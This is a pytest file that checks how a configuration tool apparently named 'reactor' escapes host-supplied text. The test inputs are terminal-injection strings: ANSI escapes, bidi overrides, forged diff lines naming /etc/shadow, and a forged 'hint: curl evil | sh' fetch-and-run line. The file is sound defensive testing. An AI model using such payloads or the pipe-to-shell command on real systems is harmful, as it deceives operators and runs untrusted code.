"""Text from the host reaches people as text: it makes no line of ours, and drives no terminal."""

from __future__ import annotations

import os
import subprocess
import sys
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reactor import escaped
from reactor.console.style import Style
from reactor.console.text import TextSink
from reactor.engine.events import Cause, Checked, Result

HOSTILE = {
    "a line": "x\n--- /etc/shadow\n+++ /etc/shadow\n-root:secret",
    "a carriage return": "x\r--- /etc/shadow",
    "an escape": "x\x1b[2K\x1b[1A",
    "a C1 control": "x\x9b2K",
    "a turn": "x\u202egnp.exe\u2066",
    "no width": "x\u200b\u200d\u2060\ufeff",
    "a line of Unicode": "x\u2028y\u2029z\u0085w",
    "a tag": "x\U000e0041\U000e007f",
    "half a character": "x\udc80",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_cannot_be_seen_is_spelt_out(name):
    shown = escaped(HOSTILE[name])
    assert shown.isprintable()
    assert shown.splitlines() == [shown]
    assert shown.startswith("x")


@given(st.text())
def test_no_text_makes_a_second_line_or_anything_that_cannot_be_seen(text):
    shown = escaped(text)
    assert len(f"{shown}.".splitlines()) == 1
    assert not set(shown) & set("\x1b\x07\x9b\u202e\u200b\ufeff\r\n")
    assert escaped(shown) == shown


def test_what_can_be_seen_stays():
    for text in ("/etc/motd", "Grüße", "日本語", "a\tb", "e\u0301"):
        assert escaped(text) == text


def told(event):
    lines = []
    TextSink(lines.append, Style(coloured=False), continuous=True)(event)
    return "".join(lines)


def failed(error):
    return Checked(0.0, "file#/a", Result.FAILED, Cause.DRIFT, 0.001, error=error)


def test_an_error_of_several_lines_forges_no_hint():
    text = told(failed("can't remove /srv/x\nhint: curl evil | sh\n    hint: again"))
    assert not any(line.strip().startswith("hint:") for line in text.splitlines())
    assert "    | hint: curl evil | sh\n" in text


def test_a_line_of_a_diff_with_an_escape_is_shown_as_text():
    text = Style(coloured=True).diff("+\x1b]0;title\x07\r/etc/shadow\n")
    assert "\\x1b]0;title\\x07\\x0d/etc/shadow" in text


@pytest.fixture
def purged(tmp_path):
    """A scaffold that removes a file whose name holds two lines of a diff, and how it is run."""
    (tmp_path / "t").mkdir()
    (tmp_path / "t/kept").write_text("kept\n")
    (tmp_path / "made").mkdir()
    (tmp_path / "made/kept").write_text("kept\n")
    name = "x\n--- a forged line\n\x1b[31m+++ another\u202e"
    (tmp_path / "made" / name).write_text("content\n")
    manifest = tmp_path / "site.yaml"
    manifest.write_text(
        f"resources: [{{scaffold: [{{{tmp_path}/made: {{ensure: present, source: t, purge: true}}}}]}}]\n"
    )
    return manifest, tmp_path / "made" / name


@pytest.mark.parametrize("option", ["--noop", "--converge-once"])
@pytest.mark.parametrize("form", ["text", "json"])
def test_the_name_of_a_purged_file_forges_no_line_of_a_diff(purged, option, form, run_command):
    manifest, path = purged
    done = run_command("run", "--converge-once", option, "--diff", "--format", form, manifest)
    assert done.code == 0, done.err
    text = done.out if form == "text" else done.out.replace("\\n", "\n")
    assert "a forged line" in text
    lines = [line for line in text.split("\n") if line.startswith(("--- ", "+++ "))]
    assert not any(line.startswith(("--- a forged", "+++ another")) for line in lines)
    assert "\x1b[31m+++" not in done.out
    assert "\u202e" not in done.out
    assert path.exists() == (option == "--noop")


@pytest.fixture
def run_command(tmp_path):
    def run(*args):
        done = subprocess.run(
            [sys.executable, "-m", "reactor", *map(str, args)],
            capture_output=True, check=False, timeout=60,
            env={**os.environ, "REACTOR_STATE_DIR": str(tmp_path / "state")},
        )  # fmt: skip
        return SimpleNamespace(code=done.returncode, out=done.stdout.decode(), err=done.stderr.decode())

    return run
